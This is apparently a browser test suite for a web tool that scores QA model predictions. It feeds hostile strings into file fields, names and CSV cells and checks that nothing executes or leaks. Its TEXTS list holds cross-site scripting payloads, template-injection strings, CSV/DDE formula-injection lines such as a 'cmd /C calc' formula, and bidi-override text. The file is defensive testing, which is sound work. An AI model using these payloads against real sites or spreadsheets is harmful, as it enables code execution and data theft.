// Files are strangers: whatever stands in them, in any field, stays text. No element is made of it,
// nothing of it runs or asks a server, and no spreadsheet takes it for a formula.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { sleep } from "./harness.mjs";
import { browser, server } from "./site.mjs";
import { drawn, figures, read, rows, said, score, settled, start, exported, openTab } from "./steps.mjs";

const LEAK = () => `${server.origin}/leak`;
const TEXTS = {
  "an image with a handler": () => `<img src="${LEAK()}" onerror="globalThis.hit = 1">`,
  "a script": () => `<script src="${LEAK()}"></script><script>globalThis.hit = 1</script>`,
  "an end of everything": () => `"'></textarea></title></style></bdi><svg onload=globalThis.hit=1>`,
  "a frame": () => `<iframe srcdoc="<img src='${LEAK()}'>"></iframe><object data="${LEAK()}"></object>`,
  "a style": () => `<style>@import "${LEAK()}"; body { display: none }</style><link rel=stylesheet href="${LEAK()}">`,
  "a link": () => `<a href="javascript:globalThis.hit=1" ping="${LEAK()}" id=main autofocus onfocus=globalThis.hit=1>x</a>`,
  "a javascript address": () => "javascript:globalThis.hit=1",
  "entities": () => "&lt;b&gt;&amp;&#60;i&#62;",
  "a template": () => "{{constructor.constructor('globalThis.hit=1')()}} ${globalThis.hit=1}",
  "a formula": () => `=HYPERLINK("${LEAK()}?x="&A1,"open")`,
  "a formula with plus": () => "+1+cmd|' /C calc'!A0",
  "a formula with minus": () => "-2+3+cmd|' /C calc'!A0",
  "a formula with at": () => "@SUM(1+1)*cmd|' /C calc'!A0",
  "a formula after a tab": () => "\t=1+1",
  "a formula after a line end": () => "\r\n=1+1",
  "a quote and separators": () => `","=1+1;"\n=1+1`,
  "right to left": () => "\u202egnp.elif\u202d and \u2067back",
  "a NUL": () => "a\u0000b\u0001c\u001bd\u007f",
  "odd spaces and marks": () => "\ufeff\u200b\u00adx\u2028y\u2029z\u0085",
  "combining marks": () => `Z${"\u0335\u0489".repeat(300)}`,
  "emoji and beyond": () => "👩‍👩‍👧‍👦 \u{10ffff}\uffff",
  "a name of an object": () => "__proto__",
  "a field of an object": () => "constructor",
};

/** A page that keeps watch. */
async function watched(run, options) {
  const page = await start(browser, server, {
    init: () => {
      globalThis.violations = [];
      addEventListener("securitypolicyviolation", (event) => {
        // With the trial the page proves its seal before it reads anything.
        const trial = event.violatedDirective === "connect-src" && event.blockedURI === "data";
        if (!trial) globalThis.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
      });
    },
    ...options,
  });
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  await drawn(page);
  const made = await elements(page);
  server.requests.length = 0;
  await run(page);
  await sleep(200);
  assert.deepEqual(await page.evaluate(() => globalThis.violations), [], "nothing was even tried");
  assert.deepEqual(asked.filter((url) => !url.startsWith("blob:")), []);
  assert.deepEqual(server.requests, []);
  assert.deepEqual(dialogs, []);
  assert.equal(await page.evaluate(() => globalThis.hit), undefined, "nothing ran");
  assert.deepEqual(await elements(page), made, "no element was made");
  assert.deepEqual(page.errors, []);
  await page.context().close();
}

/** Elements that the page itself never makes anew, and attributes that it never has. */
function elements(page) {
  return page.evaluate(() => {
    const kinds = "img,script,iframe,object,embed,style,link,svg,math,base,meta,video,audio,area,map,template";
    const found = [...document.querySelectorAll(kinds)].map((node) => node.localName);
    const odd = [...document.querySelectorAll("*")].flatMap((node) =>
      node
        .getAttributeNames()
        .filter((name) => /^(on|ping|srcdoc|formaction|autofocus|xlink)/.test(name))
        .map((name) => `${node.localName} ${name}`),
    );
    const mains = document.querySelectorAll("#main").length;
    return { found: found.sort(), odd, mains };
  });
}

/** Opens everything on the page that shows texts of files. */
async function openEverything(page) {
  const words = await page.locator(".word").evaluateAll((all) => all.map((word) => word.id));
  for (const id of words) {
    await page.locator(`#${id}`).focus();
    await page.keyboard.press("Enter");
    await page.locator(".editor").waitFor();
    for (const part of await page.locator(".editor details").all()) {
      await part.evaluate((details) => (details.open = true));
    }
    await drawn(page);
    await page.keyboard.press("Escape");
  }
  for (const more of await page.getByRole("button", { name: /^Show (all )?\d/ }).all()) await more.click();
  for (const part of await page.locator(".problems details").all()) await part.evaluate((details) => (details.open = true));
  const runs = page.locator(".runs tbody button");
  for (let run = 0; run < (await runs.count()); run += 1) {
    await runs.nth(run).click();
    await rows(page);
  }
  await openTab(page, "Groups");
  const group = page.locator(".groups tbody button").first();
  if ((await group.count()) > 0) {
    await group.click();
    await rows(page);
    await page.getByRole("button", { name: "Show all" }).click();
    await rows(page);
  }
  await openTab(page, "Questions");
  await page.locator(".grid-row.body").first().waitFor();
  const count = Math.min(4, await page.locator(".grid-row.body").count());
  for (let row = 0; row < count; row += 1) {
    await page.locator(`#row-${row}`).click();
    await page.locator(".grid-detail .chain").first().waitFor();
    await drawn(page);
  }
}

/** Cells of a CSV; throws where it is not one. */
function cells(text) {
  const found = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  while (pattern.lastIndex < text.length) {
    const from = pattern.lastIndex;
    const match = pattern.exec(text);
    assert.ok(match, `not a CSV at ${JSON.stringify(text.slice(from, from + 80))}`);
    found.push(match[1]?.replaceAll('""', '"') ?? match[2]);
  }
  return found;
}

async function assertSafeDownloads(page) {
  for (const words of ["Every question, CSV", "Rows shown, CSV", "Means, CSV"]) {
    const { bytes } = await exported(page, words);
    for (const cell of cells(bytes.toString())) {
      assert.ok(!/^[=+@\t\r\n]/.test(cell), `${words}: ${JSON.stringify(cell.slice(0, 80))}`);
      assert.ok(!/^-/.test(cell) || Number.isFinite(Number(cell)), `${words}: ${JSON.stringify(cell)}`);
    }
  }
  const json = await exported(page, "Report, JSON");
  JSON.parse(json.bytes.toString());
  const { bytes } = await exported(page, "Table, Markdown");
  assert.doesNotMatch(bytes.toString().replaceAll(/\\./g, ""), /<(img|script|svg|iframe|style|a)\b/);
}

const lines = (list) => list.map((row) => `${JSON.stringify(row)}\n`).join("");

for (const [what, text] of Object.entries(TEXTS)) {
  test(`${what}, in every field`, () =>
    watched(async (page) => {
      const evil = text();
      // Twelve rows, so that a column with few values is one to group by.
      const golds = Array.from({ length: 12 }, (_, index) => ({
        id: index ? `${evil} ${index}` : evil,
        question: `${evil} ${index}`,
        answers: [evil, `${evil} or ${index}`],
        [`${evil} kind`]: index % 2 ? evil : "other",
        category: index % 3 ? evil : "other",
      }));
      const predictions = [evil, "another"].flatMap((model) =>
        golds.slice(1).map(({ id }, index) => ({ id, model_name: model, prediction: index % 4 ? evil : `${evil} x` })),
      );
      predictions.push({ id: `${evil} extra`, model_name: evil, prediction: evil });
      await score(page, [
        { name: `${evil}.jsonl`, text: lines(golds) },
        { name: `predictions ${evil}.jsonl`, text: lines(predictions) },
      ]);
      assert.match((await figures(page))["Exact match"], /^\d+\.\d$/);
      await openEverything(page);
      // It is there, as text.
      const shown = await page.locator(".grid-detail").textContent();
      const flat = (words) => words.replaceAll(/[\s\u0000\ufeff]+/gu, "");
      if (!/[\u0000-\u0008]/.test(evil)) assert.ok(flat(shown).includes(flat(evil)), shown);
      await assertIsolated(page);
      await assertSafeDownloads(page);
    }));
}

/** Text that turns the direction of writing must not turn what stands around it. */
async function assertIsolated(page) {
  const open = await page.evaluate(() => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const found = [];
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!/[\u202a-\u202e\u2066-\u2069]/.test(node.data)) continue;
      const place = node.parentElement.closest("bdi, option, td, th, li, .announced") ?? node.parentElement;
      const isolated = /isolate|plaintext/.test(getComputedStyle(place).unicodeBidi);
      // A block of its own has nothing around it.
      const alone = place.textContent.trim() === node.data.trim();
      if (!isolated && !alone) found.push(place.outerHTML.slice(0, 300));
    }
    return found;
  });
  assert.deepEqual(open, []);
}

describe("as tables", () => {
  test("a CSV whose header and cells are hostile", () =>
    watched(async (page) => {
      const quote = (cell) => `"${cell.replaceAll('"', '""')}"`;
      const evil = Object.values(TEXTS).map((text) => text().replaceAll("\u0000", ""));
      const table = (head, list) => `${[head, ...list].map((row) => row.map(quote).join(",")).join("\r\n")}\r\n`;
      const golds = evil.map((text, index) => [`${index}`, text, text, evil[index % 3]]);
      const predictions = evil.map((text, index) => [`${index}`, text, evil[index % 2]]);
      await score(page, [
        { name: "gold.csv", text: table(["id", "question", "answer", evil[0]], golds) },
        { name: "predictions.csv", text: table(["id", "prediction", evil[1]], predictions) },
      ]);
      assert.match((await figures(page))["Exact match"], /^\d+\.\d$/);
      await openEverything(page);
      await assertIsolated(page);
      await assertSafeDownloads(page);
    }));

  test("errors quote files without making anything of them", () =>
    watched(async (page) => {
      for (const text of Object.values(TEXTS)) {
        const evil = text();
        await score(page, [
          { name: `${evil}.json`, text: `{"${evil}": ` },
          { name: `${evil}.jsonl`, text: `${evil}\n${JSON.stringify({ [evil]: evil })}\n` },
        ]);
        assert.notEqual(await said(page), "");
        await page.getByRole("button", { name: "Remove all" }).first().click();
        await page.locator(".lead").waitFor();
      }
    }));

  test("pasted and typed texts", () =>
    watched(async (page) => {
      await page.getByRole("button", { name: "SQuAD 1.1" }).click();
      await page.locator(".trial-values").waitFor();
      for (const text of Object.values(TEXTS)) {
        const evil = text().replaceAll(/[\r\n]/g, " ");
        await page.locator("#trial-golds").fill(evil);
        await page.locator("#trial-prediction").fill(evil);
        await drawn(page);
      }
      await score(page, [
        { name: "gold.jsonl", text: lines([{ id: "1", answers: ["a"] }]) },
        { name: "predictions.jsonl", text: lines([{ id: "1", prediction: "a" }]) },
      ]);
      for (const text of Object.values(TEXTS)) {
        await page.locator("#filter").fill(text().replaceAll(/[\r\n]/g, " "));
      }
      await page.getByText("No question passes these filters.").waitFor();
    }));

  test("a lone half of a letter, written as an escape", () =>
    watched(async (page) => {
      await score(page, [
        { name: "gold.jsonl", text: `{"id":"1","question":"\\ud800","answers":["\\ud83d","x"]}\n` },
        { name: "predictions.jsonl", text: `{"id":"1","prediction":"\\udc00 x"}\n` },
      ]);
      if ((await page.locator(".figures").count()) > 0) await openEverything(page);
      else assert.notEqual(await said(page), "");
    }));
});

describe("cells of 1 MB", () => {
  const long = (letter) => letter.repeat(1 << 20);
  for (const [what, make] of [
    ["letters without a space", long],
    ["words", (letter) => `${letter} `.repeat(1 << 19)],
    ["lines", (letter) => `${letter}\n`.repeat(1 << 19)],
  ]) {
    test(`of ${what}, in every field`, { timeout: 120_000 }, (context) =>
      watched(
        async (page) => {
          const golds = Array.from({ length: 8 }, (_, index) => ({
            id: `${index}`,
            question: "short",
            answers: ["short"],
            type: index % 2 ? "short" : "other",
          }));
          // Not the first: what a file holds is told from its beginning.
          golds[7] = {
            id: make("i"),
            question: make("q"),
            answers: [make("g"), "short"],
            type: make("t"),
            [make("c").slice(0, 100_000)]: "x",
          };
          const predictions = golds.map(({ id }, index) => ({
            id,
            model_name: index < 7 ? "short" : make("m"),
            prediction: index < 7 ? "none" : make("p"),
          }));
          const begun = Date.now();
          await score(page, [
            // As long as file systems let them be.
            { name: `${"n".repeat(249)}.jsonl`, text: lines(golds) },
            { name: `${"w ".repeat(124)}.jsonl`, text: lines(predictions) },
          ]);
          context.diagnostic(`shown after ${Date.now() - begun} ms`);
          assert.equal((await figures(page))["Exact match"], "0.0", await said(page));
          for (const width of [1280, 320]) {
            await page.setViewportSize({ width, height: 800 });
            await openEverything(page);
            const room = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
            assert.ok(room[0] <= room[1], `scrolls sideways at ${width}: ${room}`);
            const height = await page.evaluate(() => document.documentElement.scrollHeight);
            assert.ok(height < 60_000, `${height} px high at ${width}`);
          }
          await page.setViewportSize({ width: 1280, height: 800 });
          assert.ok((await read(page, ".sum")).includes("gold 8 = "));
          await settled(page);
        },
        { viewport: { width: 1280, height: 800 } },
      ));
  }
});
